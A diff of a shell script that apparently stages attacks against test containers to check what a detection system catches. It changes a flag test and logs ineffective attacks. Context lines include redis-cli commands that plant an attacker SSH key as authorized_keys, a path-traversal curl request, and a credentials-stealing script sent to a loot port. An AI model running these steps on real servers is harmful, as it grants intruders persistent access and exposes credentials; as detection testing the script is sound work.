@@ -19,10 +19,10 @@ module runs a shell|redis|service turned|restart
 module searches files|redis|service turned|restart
 worker runs a shell|nginx|service turned|restart'
 
-# Nothing but the files is new. With PATHS=1 the module looks at paths, and these count, too.
+# Nothing but the files is new.
 PATH_ATTACKS='path traversal|nginx|other files|
 key written|redis|other files|restart'
-[ -z "${PATHS:-}" ] || ATTACKS+=$'\n'$PATH_ATTACKS
+[ "$PATHS" = 0 ] || ATTACKS+=$'\n'$PATH_ATTACKS
 
 # The service's own process does what other programs of its container do, or what it does
 # itself to other files: caught in some runs, missed in others. With HARD=1 they count, too.
@@ -58,7 +58,7 @@ path_traversal() {
 	curl -s --path-as-is "${names[@]}" "${names[@]}" "${names[@]}"
 }
 
-# attack NAME: carry it out; returns when it is over
+# attack NAME: carry it out; returns when it is over. What had no effect is named in `undone`.
 attack() {
 	case $1 in
 	credentials) inside redis 0:0 "$UPLOAD/credentials.sh" "$LOOT_PORT" ;;
@@ -86,7 +86,8 @@ attack() {
 		redis-cli config set dbfilename authorized_keys
 		redis-cli set key 'ssh-ed25519 AAAA attacker'
 		redis-cli save
-		redis-cli save ;;
+		redis-cli save
+		[ -s "$STATE/redis/rootfs/var/tmp/authorized_keys" ] || echo "$1" >>undone ;;
 	'worker reads processes')
 		curl -s "http://127.0.0.1/cgi?port=$LOOT_PORT" ;;
 	esac
